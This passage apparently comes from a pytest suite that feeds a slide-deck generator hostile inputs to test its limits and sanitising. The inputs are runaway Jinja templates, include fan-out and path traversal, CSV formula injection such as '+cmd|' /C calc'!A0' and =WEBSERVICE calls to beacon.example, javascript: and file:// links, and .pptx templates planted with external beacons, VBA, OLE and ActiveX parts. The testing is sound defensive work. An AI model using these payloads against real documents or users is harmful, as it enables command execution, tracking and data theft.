"""Hostile outlines, templates, CSV, code and cache folders, as a stranger would write them: each
case runs deckgen in its own process within 1 GiB of address space, and must end having used
less than 10 s of CPU time and 1 GiB of memory (its processes' resource usage, which a busy
machine does not change: wall-clock time does, so it is only a backstop, for blocked work), with
the exit code it names, a located message, every input byte-identical, nothing written outside
what the command owns and, for templates and cache entries, no external relationship, macro,
object or planted byte in the deck it wrote (read back from the package).

The classes: template work that no list of dangerous operations names (stopped by the process
budgets of deckgen.budget, or by the sandbox's own checks first), include fan-out, code ranges
and code files, CSV files, chart values, link and QR addresses, template packages, diagram
cache entries, and outputs that would cost a file.

The cases run in a pool of processes, a few at a time, before their tests read the results;
DECKGEN_TIME_BUDGET is lowered to 3 s of CPU time for them so that the corpus stays quick (the default
budget is tried by its own test below).
"""

from __future__ import annotations

import io
import os
import re
import resource
import subprocess
import sys
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

from hostile_files import make, run_measured, snapshot

ROOT = Path(__file__).resolve().parents[1]
MEMORY = 1024 * 1024 * 1024
SECONDS = 10  # of CPU time, every process of a case together
BACKSTOP = 60  # of wall-clock time: a case still running then is blocked (deckgen's own wall-clock budget is 30 s)
HEAD = "deck: {title: Talk}\nslides:\n"
MARK = b"PLANTED-BY-A-STRANGER"


@dataclass
class Case:
    name: str
    files: dict[str, str | bytes]  # "<fifo>", "-> target" (a link), "<png>", "<template>"
    args: list[str]
    code: int = 2
    says: str = ""
    where: str = ""  # "FILE:LINE:COL" a message line must start with (FILE defaults to the outline)
    outputs: tuple[str, ...] = ()  # files (and folders) the command may create or replace
    env: dict[str, str] = field(default_factory=dict)
    package: str = ""  # an output .pptx to read back
    clean: bool = False  # and find no external link, macro, object or MARK in it
    setup: Callable[[Path], None] | None = None


def notes(text: str) -> dict[str, str]:
    return {"t.yaml": HEAD + "  - kind: title\n    notes: \"" + text + "\"\n"}


def check(name: str, files: dict, says: str = "", where: str = "t.yaml:4:12", code: int = 2) -> Case:
    return Case(name, files, ["check", "t.yaml"], code=code, says=says, where=where)


# --- templates: work no list names; what ends it is a budget ------------------------------------

DOUBLE = "{% set a = [1,2,3,4,5,6,7,8,9,10] %}" + "{% set a = [a,a,a,a,a,a,a,a,a,a] %}" * 7
TEMPLATES = [
    check("tojson-doubling", notes(DOUBLE + "{{ a|tojson|length }}")),
    check("pprint-doubling", notes(DOUBLE + "{{ a|pprint|length }}")),
    check("string-doubling", notes(DOUBLE + "{{ a|string|length }}")),
    check("join-doubling", notes(DOUBLE + "{{ a|join(',')|length }}")),
    check("list-doubling", notes(DOUBLE + "{{ a|list|length }}")),
    check("first-of-doubling", notes(DOUBLE + "{{ a|first|tojson|length }}")),
    check("dict-doubling", notes("{% set d = {'k': 'v' * 50} %}" + "{% set d = {'a': d, 'b': d, 'c': d, 'd': d} %}" * 10 + "{{ d|tojson|length }}")),
    check("sum-of-lists", notes("{% set l = [[1] * 1000] * 1000 %}{{ l|sum(start=[])|length }}")),
    check("map-upper-memory", notes("{% set s = 'x' * 99999 %}{% set l = [s] * 99999 %}{{ l|map('upper')|list|length }}")),
    check("map-string-memory", notes("{% set s = 'x' * 99999 %}{% set l = [s] * 99999 %}{{ l|map('string')|map('length')|sum }}")),
    check("sort-in-loops", notes("{% for i in range(1000) %}{% for j in range(200) %}{% set y = range(1000)|list|sort(reverse=true)|join(',') %}{% endfor %}{% endfor %}")),
    check("unique-in-loops", notes("{% for i in range(1000) %}{% for j in range(200) %}{% set y = range(1000)|unique|list %}{% endfor %}{% endfor %}")),
    check("dictsort-in-loops", notes("{% set d = dict(a=1, b=2, c=3) %}{% for i in range(1000) %}{% for j in range(1000) %}{% set y = d|dictsort %}{% endfor %}{% endfor %}")),
    check("batch-in-loops", notes("{% for i in range(1000) %}{% for j in range(1000) %}{% set y = range(1000)|batch(3)|list %}{% endfor %}{% endfor %}")),
    check("slice-in-loops", notes("{% for i in range(1000) %}{% for j in range(1000) %}{% set y = range(1000)|slice(7)|list %}{% endfor %}{% endfor %}")),
    check("groupby-in-loops", notes("{% set rows = [dict(k=1)] * 999 %}{% for i in range(1000) %}{% for j in range(1000) %}{% set y = rows|groupby('k') %}{% endfor %}{% endfor %}")),
    check("wordwrap-wide", notes("{{ ('word ' * 19000)|wordwrap(3) }}")),
    check("truncate-in-loops", notes("{% set s = 'x ' * 49000 %}{% for i in range(1000) %}{% for j in range(1000) %}{% set y = s|truncate(90000) %}{% endfor %}{% endfor %}")),
    check("urlize-long", notes("{% set s = 'http://a.b/' * 9000 %}{% for i in range(20000) %}{% set y = s|urlize %}{% endfor %}")),
    check("striptags-in-loops", notes("{% set s = '<a>' * 30000 %}{% for i in range(1000) %}{% for j in range(1000) %}{% set y = s|striptags %}{% endfor %}{% endfor %}")),
    check("title-in-loops", notes("{% set s = 'ab ' * 30000 %}{% for i in range(1000) %}{% for j in range(1000) %}{% set y = s|title %}{% endfor %}{% endfor %}")),
    check("wordcount-in-loops", notes("{% set s = 'ab ' * 30000 %}{% for i in range(1000) %}{% for j in range(1000) %}{% set y = s|wordcount %}{% endfor %}{% endfor %}")),
    check("set-block-growth", notes("{% set s %}{% for i in range(1000) %}{% for j in range(150) %}xxxxxxxxxx{% endfor %}{% endfor %}{% endset %}{{ s|length }}")),
    check("filter-block-growth", notes("{% filter upper %}{% for i in range(1000) %}{% for j in range(150) %}xxxxxxxxxx{% endfor %}{% endfor %}{% endfilter %}")),
    check("filter-block-nested", notes("{% filter upper %}{% filter lower %}{% filter upper %}{% for i in range(1000) %}{{ 'y' * 99 }}{% endfor %}{% endfilter %}{% endfilter %}{% endfilter %}")),
    check("macro-deep-recursion", notes("{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(0) }}")),
    check("macro-two-way-recursion", notes("{% macro f(n) %}{% for i in range(2) %}{{ f(n + 1) }}{% endfor %}{% endmacro %}{{ f(0) }}")),
    check("macro-doubling", notes("{% macro d(s, n) %}{{ d(s ~ s, n - 1) if n else s|length }}{% endmacro %}{{ d('ab', 40) }}")),
    check("macro-caller-recursion", notes("{% macro m() %}{{ caller() }}{{ caller() }}{% endmacro %}{% macro r(n) %}{% call m() %}{{ r(n + 1) if n < 30 else 'x' }}{% endcall %}{% endmacro %}{{ r(0) }}")),
    check("macro-sort-recursion", notes("{% macro f(n) %}{% set y = range(1000)|list|sort %}{% for i in range(3) %}{{ f(n + 1) if n < 20 else '' }}{% endfor %}{% endmacro %}{{ f(0) }}")),
    check("recursive-loop", notes("{% set t = [[[[[[[[[[1]*10]*10]*10]*10]*10]*10]*10]*10]*10] %}{% for x in t recursive %}{{ loop(x) if x is iterable else '' }}{% endfor %}")),
    check("recursive-loop-sorting", code=0, files=notes("{% set t = [[1, 2, 3]] * 10 %}{% for i in range(1000) %}{% for x in t recursive %}{{ loop(x|sort) if x is iterable else '' }}{% endfor %}{% endfor %}")),
    check("cycler-absent", notes("{% set c = cycler('a', 'b') %}{{ c.next() }}"), says="undefined variable 'cycler'"),
    check("lipsum-absent", notes("{{ lipsum(n=100000) }}"), says="undefined variable 'lipsum'"),
    check("joiner-absent", notes("{% set j = joiner(', ') %}{{ j() }}"), says="undefined variable 'joiner'"),
    check("string-of-huge-int", notes("{{ (9 ** 99999)|string|length }}")),
    check("int-of-long-text", notes("{{ ('9' * 99999)|int }}"), code=0),  # Python refuses the digits, Jinja2's filter gives 0
    check("float-format-precision", notes("{{ '%.99999f' % 1.5 }}"), says="at most 100000"),
    check("format-map-width", notes("{{ '{x:>99999999}'.format_map({'x': 1}) }}"), says="format width"),
    check("center-in-loops", notes("{% for i in range(1000) %}{% for j in range(1000) %}{% set y = 'a'|center(99999) %}{% endfor %}{% endfor %}")),
    check("ljust-in-loops", notes("{% for i in range(1000) %}{% for j in range(1000) %}{% set y = 'a'.ljust(99999) %}{% endfor %}{% endfor %}")),
    check("items-of-doubling", notes(DOUBLE + "{{ a|map('tojson')|list|length }}")),
    check("reverse-doubling", notes(DOUBLE + "{{ a|reverse|list|tojson|length }}")),
    check("xmlattr-long", notes("{{ {'a': 'x' * 99999, 'b': 'y' * 99999}|xmlattr|length }}")),
    check("indent-in-loops", notes("{% set s = 'a\\\\n' * 40000 %}{% for i in range(1000) %}{% set y = s|indent(2) %}{% endfor %}")),
    check("replace-in-loops", notes("{% set s = 'ab' * 40000 %}{% for i in range(1000) %}{% for j in range(1000) %}{% set y = s|replace('a', 'b') %}{% endfor %}{% endfor %}")),
    check("when-heavy", {"t.yaml": HEAD + "  - kind: title\n    when: \"(range(1000)|list|sort|join(',')) * 0 == '' and " + "(range(1000)|list|sort|join(',')|length > 0) and " * 10 + "true\"\n"}, where="t.yaml:4:11", code=0),
    check("loop-over-string", notes("{% set s = 'x' * 99999 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}")),
    check("deck-field-runaway", {"t.yaml": "deck: {title: \"{% for i in range(1000) %}{% for j in range(1000) %}{% set y = range(999)|list|sort %}{% endfor %}{% endfor %}T\"}\nslides:\n  - kind: title\n"}, where="t.yaml:1:15"),
    check("variables-feed-runaway", {"t.yaml": "deck: {title: T}\nvariables: {n: 1000}\nslides:\n  - kind: title\n    notes: \"{% for i in range(n) %}{% for j in range(n) %}{% set y = range(n)|list|sort %}{% endfor %}{% endfor %}\"\n"}, where="t.yaml:5:12"),
    check("many-fields-each-heavy", {"t.yaml": HEAD + "".join(f"  - {{kind: section, title: \"S{i}{{% for j in range(1000) %}}{{% set y = range(999)|list|sort %}}{{% endfor %}}\"}}\n" for i in range(400))}, where="t.yaml:"),
]

# --- include: fan-out bounded by files and bytes, all includes together ---------------------------


def fan_out(width: int) -> dict[str, str]:
    files = {"t.yaml": HEAD + "".join(f"  - include: a{i}.yaml\n" for i in range(width))}
    for i in range(width):
        files[f"a{i}.yaml"] = "slides:\n" + "".join(f"  - include: b{j}.yaml\n" for j in range(width))
    for j in range(width):
        files[f"b{j}.yaml"] = "slides:\n  - kind: title\n"
    return files


def dag(width: int, depth: int) -> dict[str, str]:
    files = {"t.yaml": HEAD + "".join(f"  - include: l0-{i}.yaml\n" for i in range(width))}
    for level in range(depth):
        for i in range(width):
            below = "".join(f"  - include: l{level + 1}-{j}.yaml\n" for j in range(width)) if level + 1 < depth else "  - kind: title\n"
            files[f"l{level}-{i}.yaml"] = "slides:\n" + below
    return files


BIG_SLIDES = "slides:\n  - kind: title\n" + "#" * 1_900_000 + "\n"
INCLUDES = [
    check("fan-out-300", fan_out(300), says="at most 400 included files", where="a1.yaml:"),
    check("fan-out-60", fan_out(60), says="at most 400 included files", where="a6.yaml:"),
    check("dag-10x10x10", dag(10, 3), says="at most 400 included files", where=""),
    check("dag-100-wide", dag(100, 3), says="at most 400 included files", where=""),
    check("big-file-2000-times", {"t.yaml": HEAD + "  - include: big.yaml\n" * 2000, "big.yaml": BIG_SLIDES}, says="MiB here, all includes together", where="t.yaml:"),
    check("one-file-4000-times", {"t.yaml": HEAD + "  - include: s.yaml\n" * 4000, "s.yaml": "slides:\n  - kind: title\n"}, says="at most 400 included files", where="t.yaml:"),
    check("many-slides-included", {"t.yaml": HEAD + "  - include: s.yaml\n" * 300, "s.yaml": "slides:\n" + "  - kind: title\n" * 20}, says="passes 2000 slides", where="s.yaml:"),
    check("include-fifo", {"t.yaml": HEAD + "  - include: p.yaml\n", "p.yaml": "<fifo>"}, says="named pipe", where="p.yaml"),
    check("include-dev-zero", {"t.yaml": HEAD + "  - include: z.yaml\n", "z.yaml": "-> /dev/zero"}, says="", where="t.yaml:3:14"),
    check("include-folder", {"t.yaml": HEAD + "  - include: d.yaml\n", "d.yaml/x": "x"}, says="", where="d.yaml"),
    check("include-outside", {"t.yaml": HEAD + "  - include: ../../../etc/passwd\n"}, says="", where="t.yaml:3:14"),
    check("include-self", {"t.yaml": HEAD + "  - include: t.yaml\n"}, says="include cycle", where="t.yaml:3:14"),
    check("include-chain-deep", {"t.yaml": HEAD + "  - include: c0.yaml\n", **{f"c{i}.yaml": f"slides:\n  - include: c{i + 1}.yaml\n" for i in range(14)}, "c14.yaml": "slides:\n  - kind: title\n"}, says="nest deeper than 10", where="c"),
    check("include-huge-file", {"t.yaml": HEAD + "  - include: h.yaml\n", "h.yaml": "slides:\n" + "#" * (3 << 20) + "\n"}, says="limited to 2 MiB", where="h.yaml"),
]

# --- code: ranges checked against the file's length, refused code never highlighted -------------

CODE = "def f(x):\n    return x\n" * 20


def code_slide(extra: str, source: str | bytes = CODE, name: str = "s.py", language: str = "python") -> dict:
    return {"t.yaml": HEAD + f"  - {{kind: code, title: C, source: {name}, language: {language}{extra}}}\n", name: source}


CODES = [
    check("lines-a-million", code_slide(", lines: '1-1000000'"), says="has 40 lines", where="t.yaml:3:"),
    check("lines-a-million-reversed", code_slide(", lines: '1000000-1'"), says="has 40 lines", where="t.yaml:3:"),
    check("lines-many-parts", code_slide(", lines: '" + ",".join(["1-1000000"] * 20) + "'"), says="has 40 lines", where="t.yaml:3:"),
    check("highlight-a-million", code_slide(", lines: '1-10', highlight: '1-1000000'"), says="which the block does not show", where="t.yaml:3:"),  # refused at once, not expanded
    check("highlight-many-parts", code_slide(", lines: '1-10', highlight: '" + ",".join(["1-999999"] * 20) + "'"), says="which the block does not show", where="t.yaml:3:"),  # refused at once, not expanded
    check("highlight-inline-a-million", {"t.yaml": HEAD + "  - {kind: code, title: C, language: python, highlight: '1-1000000', code: \"x = 1\"}\n"}, says="which the block does not show", where="t.yaml:3:"),
    check("lines-zero", code_slide(", lines: '0-3'"), says="has 40 lines", where="t.yaml:3:"),
    check("code-nul", code_slide("", "x = 1\nprint('\x00')\n"), says="NUL", where="s.py:2:"),
    check("code-escape", code_slide("", "x = 1\ny = 2\nprint('\x1b[31m')\n"), says="U+001B", where="s.py:3:"),
    check("code-bell", code_slide("", "print('\x07')\n"), says="U+0007", where="s.py:1:"),
    check("code-noncharacter", code_slide("", "x = '\ufffe'\n"), says="U+FFFE", where="s.py:1:"),
    check("code-not-utf8", code_slide("", "x = 1\n".encode() + b"\xff\xfe\n"), says="not UTF-8", where="t.yaml:3:"),
    check("code-fifo", code_slide("", "<fifo>"), says="named pipe", where="t.yaml:3:"),
    check("code-dev-zero", code_slide("", "-> /dev/zero"), says="", where="t.yaml:3:"),
    check("code-too-long-refused", code_slide("", "x = 1\n" * 5000), says="the code has 5000 lines", where="t.yaml:3:"),
    check("code-too-wide-refused", code_slide("", ("x = '" + "y" * 20000 + "'\n") * 10), says="characters wide", where="t.yaml:3:"),
    check("code-heavy-lexer-refused", code_slide("", language="cpp", name="s.cpp", source="int a[] = {" + "1," * 100000 + "};\n"), says="characters wide", where="t.yaml:3:"),
    check("code-lone-cr", code_slide("", "x = 1\ry = 2\r"), code=0, where=""),
    check("code-form-feed", code_slide("", "x = 1\n\x0c\ny = 2\n"), code=0, where=""),
]

# --- CSV: read as CSV, numbers finite, cells text, limits before use -----------------------------


def chart(csv: str | bytes, kind: str = "column", name: str = "d.csv", out: bool = False) -> dict:
    return {"t.yaml": HEAD + f"  - {{kind: chart, title: C, type: {kind}, data: {name}}}\n", name: csv}


def build(name: str, files: dict, code: int = 0, says: str = "", where: str = "", package: str = "d.pptx", **more) -> Case:
    outputs = (package,) if code == 0 else ()
    return Case(name, files, ["build", "t.yaml", "-o", package], code=code, says=says, where=where, outputs=outputs, package=package if code == 0 else "", **more)


CSVS = [
    build("csv-hyperlink-formula", chart('label,"=HYPERLINK(""http://beacon.example/x"",""click"")"\na,1\nb,2\n')),
    build("csv-formula-category", chart("label,value\n=1+1,1\n+cmd|' /C calc'!A0,2\n-2+3,3\n@SUM(A1:A9),4\n")),
    build("csv-formula-series", chart("label,=WEBSERVICE(\"http://beacon.example\"),+x\na,1,2\n")),
    build("csv-quoted-comma", chart('label,value\n"a, b",1\n')),
    check("csv-nan", chart("label,value\na,1\nb,nan\n"), says="not a finite number", where="d.csv:3:"),
    check("csv-inf", chart("label,value\na,inf\n"), says="not a finite number", where="d.csv:2:"),
    check("csv-minus-inf", chart("label,value\na,1\nb,2\nc,-Infinity\n"), says="not a finite number", where="d.csv:4:"),
    check("csv-1e309", chart("label,value\na,1e309\n"), says="not a finite number", where="d.csv:2:"),
    check("csv-nul", chart("label,value\na\x00b,1\n"), says="U+0000", where="d.csv:2:"),
    check("csv-bell", chart("label,value\na,1\nb\x07,2\n"), says="U+0007", where="d.csv:3:"),
    check("csv-noncharacter", chart("label,value\na\ufffe,1\n"), says="U+FFFE", where="d.csv:2:"),
    check("csv-line-separator", chart("label,value\na\u2028b,1\n"), says="U+2028", where="d.csv:2:"),
    check("csv-vertical-tab", chart("label,value\na\x0bb,1\n"), says="U+000B", where="d.csv:2:"),
    check("csv-quoted-line-break", chart('label,value\na,1\n"b\nc",2\n'), says="line break", where="d.csv:3:"),
    check("csv-20000-series", chart("label," + ",".join(f"s{i}" for i in range(20000)) + "\na," + ",".join("1" * 20000) + "\n"), says="at most 12", where="d.csv:1:"),
    check("csv-5000-rows", chart("label,value\n" + "".join(f"c{i},{i}\n" for i in range(5000))), says="at most 200 categories", where="d.csv:202:"),
    check("csv-long-cell", chart("label,value\n" + "a" * 5000 + ",1\n"), says="5000 characters", where="d.csv:2:"),
    check("csv-ragged", chart("label,value\na,1,2\n"), says="3 cells where the header has 2", where="d.csv:2:"),
    check("csv-not-utf8", chart(b"label,value\n\xff,1\n"), says="not UTF-8", where="t.yaml:3:"),
    check("csv-fifo", chart("<fifo>"), says="named pipe", where="t.yaml:3:"),
    check("csv-dev-zero", chart("-> /dev/zero"), says="", where="t.yaml:3:"),
    check("csv-scatter", chart("label,value\na,1\nb,2\n", "scatter"), says="scatter chart's points", where="t.yaml:3:"),
    check("csv-header-only", chart("label,value\n"), says="needs a header row", where="d.csv:1:"),
    check("csv-unclosed-quote", chart('label,value\n"a,1\n'), says="", where="d.csv:"),
]

# --- chart values written inline ----------------------------------------------------------------


def inline(values: str, kind: str = "column") -> dict:
    cats = "[a, b]" if kind != "scatter" else "[]"
    return {"t.yaml": HEAD + f"  - kind: chart\n    title: C\n    type: {kind}\n    categories: {cats}\n    series:\n      - {{name: s, values: {values}}}\n"}


VALUES = [
    check("inline-nan", inline("[1, .nan]"), says="not a finite number", where="t.yaml:8:"),
    check("inline-inf", inline("[.inf, 1]"), says="not a finite number", where="t.yaml:8:"),
    check("inline-minus-inf", inline("[-.inf, 1]"), says="not a finite number", where="t.yaml:8:"),
    check("inline-1e309", inline("[1e309, 1]"), says="not a finite number", where="t.yaml:8:"),
    check("inline-scatter-nan", inline("[[1, .nan], [2, 3]]", "scatter"), says="not a finite number", where="t.yaml:8:"),
    check("inline-pie-nan", inline("[.nan, 1]", "pie"), says="not a finite number", where="t.yaml:8:"),
]

# --- addresses that become links or QR codes ------------------------------------------------------


def closing(url: str = "https://example.org", qr: str | None = None) -> dict:
    qr_line = f"\n    qr: \"{qr}\"" if qr is not None else ""
    return {"t.yaml": HEAD + f"  - kind: closing\n    links:\n      - {{label: Slides, url: \"{url}\"}}{qr_line}\n"}


LINKS = [check(f"link-{name}", closing(url), says="not allowed", where="t.yaml:5:") for name, url in (
    ("javascript", "javascript:alert(1)"), ("javascript-upper", "JAVASCRIPT:alert(1)"), ("javascript-spaced", " javascript:alert(1)"),
    ("file", "file:///etc/passwd"), ("data", "data:text/html,<script>x</script>"), ("vbscript", "vbscript:msgbox(1)"),
    ("smb", "smb://server/share"), ("ms-word", "ms-word:ofe|u|http://x"),
)] + [check("link-unc", closing("\\\\\\\\server\\\\share"), says="network share", where="t.yaml:5:")] + [
    check(f"qr-{name}", closing(qr=url), says="not allowed", where="t.yaml:6:") for name, url in (
        ("javascript", "javascript:alert(1)"), ("file", "file:///etc/passwd"), ("data", "data:,x"), ("tel", "tel:+1555"),
    )
] + [
    build("link-https", closing("https://example.org/slides", "https://example.org/feedback")),
    build("link-mailto", closing("mailto:me@example.org")),
    build("link-plain-text", closing("example.org/slides")),
]

# --- template packages ----------------------------------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PIC = (
    '<p:pic xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{REL}"><p:nvPicPr><p:cNvPr id="900" name="Beacon"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
    '<p:blipFill><a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
    '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="10" cy="10"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
)
LINKED_SHAPE = (
    '<p:sp xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{REL}"><p:nvSpPr><p:cNvPr id="901" name="Linked"><a:hlinkClick r:id="{{rid}}"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>'
    '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="10" cy="10"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:sp>'
)
OLE = (
    '<p:graphicFrame xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{REL}"><p:nvGraphicFramePr><p:cNvPr id="902" name="Object"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr>'
    '<p:xfrm><a:off x="0" y="0"/><a:ext cx="10" cy="10"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
    '<p:oleObj r:id="{rid}" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
)


def template_with(*, rels: dict[str, list[tuple[str, str, str, bool]]] | None = None, shapes: dict[str, str] | None = None, parts: dict[str, bytes] | None = None,
                  types: list[str] | None = None, main_type: str | None = None, size: tuple[str, str] | None | str = "keep", presentation_extra: str = "") -> bytes:
    """Return the built-in template changed as a stranger's would be: relationships added to
    parts' .rels (id, type, target, external), shapes added to parts' shape trees, parts added,
    content types added, the main content type or the slide size changed."""
    from deckgen.theme import template_path

    source = zipfile.ZipFile(template_path())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in source.infolist():
            data = source.read(info).decode("utf-8") if info.filename.endswith((".xml", ".rels")) else source.read(info)
            for rels_name, added in (rels or {}).items():
                if info.filename == rels_name:
                    data = data.replace("</Relationships>", "".join(
                        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"' + (' TargetMode="External"' if external else "") + "/>" for rid, kind, target, external in added) + "</Relationships>")
            for part, shape in (shapes or {}).items():
                if info.filename == part:
                    data = re.sub(r"(<p:spTree>.*?</p:grpSpPr>)", lambda m: m.group(1) + shape, data, count=1, flags=re.S)
            if info.filename == "[Content_Types].xml":
                if types:
                    data = data.replace("</Types>", "".join(types) + "</Types>")
                if main_type:
                    data = data.replace("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", main_type)
            if info.filename == "ppt/presentation.xml":
                if size is None:
                    data = re.sub(r"<p:sldSz[^>]*/>", "", data)
                elif size != "keep":
                    data = re.sub(r"<p:sldSz[^>]*/>", f'<p:sldSz cx="{size[0]}" cy="{size[1]}"/>', data)
                if presentation_extra:
                    data = data.replace("<p:defaultTextStyle>", presentation_extra + "<p:defaultTextStyle>")
            copy.writestr(info, data.encode("utf-8") if isinstance(data, str) else data)
        for name, blob in (parts or {}).items():
            copy.writestr(name, blob)
    return out.getvalue()


MASTER_RELS = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
MASTER = "ppt/slideMasters/slideMaster1.xml"
LAYOUT_RELS = "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
LAYOUT = "ppt/slideLayouts/slideLayout2.xml"
PRES_RELS = "ppt/_rels/presentation.xml.rels"
IMAGE = f"{REL}/image"
LINK = f"{REL}/hyperlink"


def on_template(name: str, package: bytes, code: int = 0, says: str = "", where: str = "") -> Case:
    files = {"t.yaml": "deck: {title: Talk, template: c.pptx}\nslides:\n  - kind: title\n  - {kind: bullets, title: B, bullets: [one, two]}\n", "c.pptx": package}
    return build(name, files, code=code, says=says, where=where)


def beacon(name: str, target: str, part_rels: str = MASTER_RELS, part: str = MASTER) -> Case:
    return on_template(name, template_with(rels={part_rels: [("rIdX1", IMAGE, target, True)]}, shapes={part: PIC.replace("{rid}", "rIdX1")}))


def hyperlink(name: str, target: str, part_rels: str = LAYOUT_RELS, part: str = LAYOUT) -> Case:
    return on_template(name, template_with(rels={part_rels: [("rIdX2", LINK, target, True)]}, shapes={part: LINKED_SHAPE.replace("{rid}", "rIdX2")}))


VBA_TYPES = ['<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>']
TEMPLATE_PACKAGES = [
    beacon("master-http-beacon", "http://beacon.example/pixel.png"),
    beacon("master-https-beacon", "https://beacon.example/pixel.png?who=me"),
    beacon("master-unc-beacon", "\\\\beacon.example\\share\\pixel.png"),
    beacon("master-file-beacon", "file:///etc/passwd"),
    beacon("layout-http-beacon", "http://beacon.example/l.png", LAYOUT_RELS, LAYOUT),
    beacon("layout-unc-beacon", "//beacon.example/share/l.png", LAYOUT_RELS, LAYOUT),
    hyperlink("layout-javascript-link", "javascript:alert(document.cookie)"),
    hyperlink("layout-file-link", "file:///C:/Windows/System32/calc.exe"),
    hyperlink("master-http-link", "http://beacon.example/click", MASTER_RELS, MASTER),
    on_template("external-theme-link", template_with(rels={PRES_RELS: [("rIdX3", f"{REL}/attachedTemplate", "http://beacon.example/t.potx", True)]})),
    on_template("vba-project", template_with(rels={PRES_RELS: [("rIdX4", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)]},
                                             parts={"ppt/vbaProject.bin": MARK * 10}, types=VBA_TYPES, main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")),
    on_template("vba-template-type", template_with(rels={PRES_RELS: [("rIdX4", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)]},
                                                   parts={"ppt/vbaProject.bin": MARK * 10}, types=VBA_TYPES, main_type="application/vnd.ms-powerpoint.template.macroEnabled.main+xml")),
    on_template("ole-object-on-layout", template_with(rels={LAYOUT_RELS: [("rIdX5", f"{REL}/oleObject", "../embeddings/oleObject1.bin", False)]}, shapes={LAYOUT: OLE.replace("{rid}", "rIdX5")},
                                                      parts={"ppt/embeddings/oleObject1.bin": MARK * 10}, types=['<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'])),
    on_template("ole-package-on-master", template_with(rels={MASTER_RELS: [("rIdX6", f"{REL}/package", "../embeddings/doc1.docx", False)]}, shapes={MASTER: OLE.replace("{rid}", "rIdX6")},
                                                       parts={"ppt/embeddings/doc1.docx": MARK * 10}, types=['<Default Extension="docx" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document"/>'])),
    on_template("embedded-font", template_with(rels={PRES_RELS: [("rIdX7", f"{REL}/font", "fonts/font1.fntdata", False)]}, parts={"ppt/fonts/font1.fntdata": MARK * 10},
                                               types=['<Default Extension="fntdata" ContentType="application/x-fontdata"/>'],
                                               presentation_extra='<p:embeddedFontLst><p:embeddedFont><p:font typeface="Planted"/><p:regular r:id="rIdX7"/></p:embeddedFont></p:embeddedFontLst>')),
    on_template("custom-xml", template_with(rels={PRES_RELS: [("rIdX8", f"{REL}/customXml", "../customXml/item1.xml", False)]}, parts={"customXml/item1.xml": b"<x>" + MARK + b"</x>"})),
    on_template("comments-on-master", template_with(rels={MASTER_RELS: [("rIdX9", f"{REL}/comments", "../comments/comment1.xml", False)]}, parts={"ppt/comments/comment1.xml": b"<x>" + MARK + b"</x>"},
                                                    types=['<Override PartName="/ppt/comments/comment1.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.comments+xml"/>'])),
    on_template("activex-control", template_with(rels={LAYOUT_RELS: [("rIdXA", f"{REL}/control", "../activeX/activeX1.xml", False)]}, parts={"ppt/activeX/activeX1.xml": b"<x>" + MARK + b"</x>"},
                                                 types=['<Override PartName="/ppt/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'])),
    on_template("everything-at-once", template_with(
        rels={MASTER_RELS: [("rIdX1", IMAGE, "http://beacon.example/p.png", True)], LAYOUT_RELS: [("rIdX2", LINK, "javascript:x", True), ("rIdX5", f"{REL}/oleObject", "../embeddings/oleObject1.bin", False)],
              PRES_RELS: [("rIdX4", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)]},
        shapes={MASTER: PIC.replace("{rid}", "rIdX1"), LAYOUT: LINKED_SHAPE.replace("{rid}", "rIdX2") + OLE.replace("{rid}", "rIdX5")},
        parts={"ppt/vbaProject.bin": MARK, "ppt/embeddings/oleObject1.bin": MARK}, types=VBA_TYPES,
        main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")),
    on_template("size-zero", template_with(size=("0", "0")), code=2, says="a slide's side is 1 to 56 in", where="c.pptx"),
    on_template("size-one-emu", template_with(size=("1", "1")), code=2, says="a slide's side is 1 to 56 in", where="c.pptx"),
    on_template("size-missing", template_with(size=None), code=2, says="gives no slide size", where="c.pptx"),
    on_template("size-huge", template_with(size=("99999999", "6858000")), code=2, says="a slide's side is 1 to 56 in", where="c.pptx"),
    on_template("size-one-wide", template_with(size=("12192000", "1")), code=2, says="a slide's side is 1 to 56 in", where="c.pptx"),
